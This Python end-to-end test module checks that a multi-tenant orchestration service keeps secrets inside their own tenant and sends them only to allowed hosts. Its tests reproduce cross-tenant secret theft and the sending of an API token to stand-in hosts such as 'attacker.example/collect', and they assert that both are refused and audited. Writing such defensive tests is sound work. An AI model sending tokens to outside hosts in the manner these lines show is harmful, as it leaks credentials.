"""Secrets belong to a tenant and to destinations (issue 8, finding 2), through the real api and
worker: the attacks, written as they were reproduced.

The stack's worker holds, besides ``SECRET_TENANT``'s planted secret, the other tenant's
``env:E2E_DB_PASSWORD`` and ``file:e2e_token`` in that tenant's namespace, and the same values
under the pre-namespace names (``OPSC_SECRET_E2E_DB_PASSWORD``, ``<root>/e2e_token``) that every
tenant used to resolve. The catalogue lets ``SECRET_TENANT`` send its API token to
``ALLOWED_API_HOST`` only.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import asyncpg
import pytest
from opsc_test_actions import read_ledger

from opsconductor.client import PermissionDeniedError

from . import inspection
from .conftest import ALLOWED_API_HOST, OTHER_SECRET_TENANT, SECRET_TENANT, Tenant, bound_tenant
from .inspection import rbac_violations, tenant_row_counts
from .plans import plan, probe_step
from .stack import Stack

module_end_checks = inspection.module_end_checks
pytestmark = pytest.mark.usefixtures("module_end_checks")


def http_plan(url: str, header: dict[str, Any]) -> dict[str, Any]:
    return plan(
        {
            "id": "call",
            "action": "http",
            "action_class": "read",
            "targets": [{"ref": "api"}],
            "params": {"url": url, "headers": {"X-Api-Token": header}},
        }
    )


async def test_a_tenant_without_the_secret_cannot_resolve_another_tenants_env_secret(
    tenant: Tenant, ledger: Path, e2e_pool: asyncpg.Pool
) -> None:
    """A fresh tenant names the other tenant's env secret (which it used to get): refused at
    submit, audited, nothing written, the probe never ran and never saw a value."""
    before = await tenant_row_counts(e2e_pool, tenant.id)
    step = probe_step("steal", ["db:primary"], ledger, emit={"$secret": "env:E2E_DB_PASSWORD"})
    async with tenant.client("alice") as client:
        with pytest.raises(PermissionDeniedError) as refused:
            await client.submit(plan(step), tenant_id=tenant.id)
    assert refused.value.details["denial_reason"] == "SECRET_USE_DENIED"
    assert refused.value.details["field"] == "steps[0].params.emit"
    assert read_ledger(ledger) == []
    after = await tenant_row_counts(e2e_pool, tenant.id)
    assert after["executions"] == before["executions"]
    [audit] = await rbac_violations(e2e_pool, tenant.id, "alice")
    assert audit["reason"] == "SECRET_USE_DENIED"
    assert audit["tier"] == "api"
    assert [v["field"] for v in audit["violations"]] == ["steps[0].params.emit"]


@pytest.mark.parametrize("ref", ["file:e2e_token", "env:OTHER_DB_PASSWORD"], ids=["file", "env"])
async def test_a_catalogued_name_resolves_only_in_the_own_namespace(
    ref: str, stack: Stack, ledger: Path, e2e_pool: asyncpg.Pool
) -> None:
    """SECRET_TENANT's catalogue allows these names, but only the other tenant (or the old
    shared layout) has them: the worker finds nothing in SECRET_TENANT's namespace, fails the
    step before the probe runs, and says so exactly as for any secret that is not set."""
    tenant = await bound_tenant(SECRET_TENANT, stack, e2e_pool)
    step = probe_step("steal", ["db:replica"], ledger, emit={"$secret": ref})
    async with tenant.client("alice") as client:
        done = await client.submit(plan(step), tenant_id=tenant.id)
    assert done.status == "failed"
    assert done.error_class == "SECRET_UNRESOLVED"
    assert "not available to this step" in done.error_message
    assert read_ledger(ledger) == []


async def test_the_other_tenant_resolves_its_own_secrets(
    stack: Stack, ledger: Path, e2e_pool: asyncpg.Pool
) -> None:
    """Control: the same references work for the tenant whose namespace has them."""
    other = await bound_tenant(OTHER_SECRET_TENANT, stack, e2e_pool)
    for ref in ("env:E2E_DB_PASSWORD", "file:e2e_token"):
        step = probe_step(f"own-{ref[:3]}", ["db:other"], ledger, emit={"$secret": ref})
        async with other.client("alice") as client:
            done = await client.submit(plan(step), tenant_id=other.id)
        assert done.status == "succeeded", (done.error_class, done.error_message)
    assert [line["secret_seen"] for line in read_ledger(ledger)] == [True, True]


async def test_an_allowed_secret_cannot_be_sent_to_an_unlisted_host(
    stack: Stack, e2e_pool: asyncpg.Pool
) -> None:
    """The API token may go to ALLOWED_API_HOST only: a plan sending it elsewhere is refused at
    submit with PERMISSION_DENIED naming the header, no execution is created, and the denial is
    audited; the same plan aimed at the allowed host passes the check."""
    tenant = await bound_tenant(SECRET_TENANT, stack, e2e_pool)
    ref = {"$secret": "env:E2E_API_TOKEN"}
    before = await tenant_row_counts(e2e_pool, tenant.id)
    audits_before = len(await rbac_violations(e2e_pool, tenant.id, "alice"))
    async with tenant.client("alice") as client:
        for url in (
            "https://attacker.example/collect",
            f"https://{ALLOWED_API_HOST}.attacker.example/",
            f"https://attacker.example/?to={ALLOWED_API_HOST}",
        ):
            with pytest.raises(PermissionDeniedError) as refused:
                await client.submit(http_plan(url, ref), tenant_id=tenant.id)
            assert refused.value.details["denial_reason"] == "SECRET_USE_DENIED"
            assert refused.value.details["field"] == "steps[0].params.headers.X-Api-Token"
        assert (await tenant_row_counts(e2e_pool, tenant.id))["executions"] == before["executions"]
        audits = (await rbac_violations(e2e_pool, tenant.id, "alice"))[audits_before:]
        assert [a["reason"] for a in audits] == ["SECRET_USE_DENIED"] * 3
        assert all(a["resource"] == "ExecutionService/SubmitExecution" for a in audits)
        allowed = await client.submit(
            http_plan(f"https://{ALLOWED_API_HOST}/v1", ref), tenant_id=tenant.id
        )
    # Accepted and run; the host does not exist, so the request itself fails.
    assert allowed.error_class not in {"SECRET_USE_DENIED", "SECRET_UNRESOLVED"}
